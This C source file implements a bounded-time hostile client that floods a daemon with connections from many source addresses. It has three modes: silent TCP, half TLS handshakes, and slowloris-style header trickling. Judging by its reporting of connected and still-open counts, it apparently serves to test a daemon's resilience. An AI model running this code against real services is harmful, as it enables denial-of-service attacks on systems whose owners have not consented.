// SPDX-License-Identifier: GPL-2.0-only
/*
 * What a hostile client does to a daemon, for a bounded time:
 *
 *   attack ADDRESS PORT FROM SOURCES connect COUNT SECONDS      TCP, silent
 *   attack ADDRESS PORT FROM SOURCES half COUNT SECONDS         half of a TLS hello
 *   attack ADDRESS PORT FROM SOURCES loris COUNT SECONDS CERT KEY
 *                                                TLS, and a header byte a second
 *
 * from SOURCES addresses in turn, the first of which is FROM. Prints how many
 * connections were made, and how many of them were still open at the end.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define CONNECT_SECONDS	4	/* for all, together: refused SYNs are sent again after 1 and 3 */

struct client {
	int fd;
	int connected;
	SSL *ssl;
};

static struct sockaddr_in target = { .sin_family = AF_INET };
static struct in_addr from;
static int sources;

static void begin_one(struct client *c, int i)
{
	struct sockaddr_in at = { .sin_family = AF_INET };

	at.sin_addr.s_addr = htonl(ntohl(from.s_addr) + i % sources);
	c->fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
	if (c->fd < 0 || bind(c->fd, (struct sockaddr *)&at, sizeof(at)) ||
	    (connect(c->fd, (struct sockaddr *)&target, sizeof(target)) && errno != EINPROGRESS)) {
		perror("attack");
		exit(2);
	}
}

static int connected_now(struct client *c)
{
	struct pollfd p = { c->fd, POLLOUT, 0 };
	socklen_t len = sizeof(int);
	int error = 0;

	if (!c->connected && poll(&p, 1, 0) > 0 &&
	    !getsockopt(c->fd, SOL_SOCKET, SO_ERROR, &error, &len) && !error)
		c->connected = 1;
	return c->connected;
}

static int connect_all(struct client *c, int n)
{
	time_t until = time(NULL) + CONNECT_SECONDS;
	int i, left;

	for (i = 0; i < n; i++)
		begin_one(&c[i], i);
	do {
		usleep(50000);
		for (i = 0, left = n; i < n; i++)
			left -= connected_now(&c[i]);
	} while (left && time(NULL) < until);
	return n - left;
}

static int tls_one(struct client *c, SSL_CTX *ctx)
{
	struct timeval t = { 2, 0 };

	if (!c->connected)
		return 0;
	fcntl(c->fd, F_SETFL, 0);
	setsockopt(c->fd, SOL_SOCKET, SO_SNDTIMEO, &t, sizeof(t));
	setsockopt(c->fd, SOL_SOCKET, SO_RCVTIMEO, &t, sizeof(t));
	c->ssl = SSL_new(ctx);
	SSL_set_fd(c->ssl, c->fd);
	return SSL_connect(c->ssl) == 1;
}

static int is_open(struct client *c)
{
	struct pollfd p = { c->fd, POLLIN, 0 };
	char b;

	if (!connected_now(c))
		return 0;
	return !(poll(&p, 1, 0) > 0 && recv(c->fd, &b, 1, MSG_PEEK | MSG_DONTWAIT) <= 0);
}

static void poke(struct client *c, const char *mode, int second)
{
	static const unsigned char hello[] = { 0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3 };

	if (!strcmp(mode, "half") && !second)
		send(c->fd, hello, sizeof(hello), MSG_NOSIGNAL);
	if (c->ssl && !second)
		SSL_write(c->ssl, "POST /v1/request HTTP/1.1\r\nHost: x\r\nX-A: ", 41);
	else if (c->ssl && is_open(c))
		SSL_write(c->ssl, "a", 1);
}

static SSL_CTX *tls(const char *cert, const char *key)
{
	SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());

	if (SSL_CTX_use_certificate_file(ctx, cert, SSL_FILETYPE_PEM) != 1 ||
	    SSL_CTX_use_PrivateKey_file(ctx, key, SSL_FILETYPE_PEM) != 1)
		exit(2);
	return ctx;
}

int main(int argc, char **argv)
{
	struct rlimit lim = { 65536, 65536 };
	int n = argc > 6 ? atoi(argv[6]) : 0, seconds = argc > 7 ? atoi(argv[7]) : 0, i, s, left;
	struct client *c = calloc(n + 1, sizeof(*c));
	SSL_CTX *ctx = argc > 9 ? tls(argv[8], argv[9]) : NULL;

	if (argc < 8 || inet_pton(AF_INET, argv[1], &target.sin_addr) != 1 ||
	    inet_pton(AF_INET, argv[3], &from) != 1 || (sources = atoi(argv[4])) < 1)
		return 2;
	target.sin_port = htons(atoi(argv[2]));
	setrlimit(RLIMIT_NOFILE, &lim);
	signal(SIGPIPE, SIG_IGN);
	left = connect_all(c, n);
	if (ctx)
		for (i = 0, left = 0; i < n; i++)
			left += tls_one(&c[i], ctx);
	printf("connected %d\n", left);
	fflush(stdout);
	for (s = 0; s < seconds; s++) {
		for (i = 0; i < n; i++)
			poke(&c[i], argv[5], s);
		sleep(1);
	}
	for (i = 0, left = 0; i < n; i++)
		left += is_open(&c[i]);
	printf("open %d\n", left);
	return 0;
}
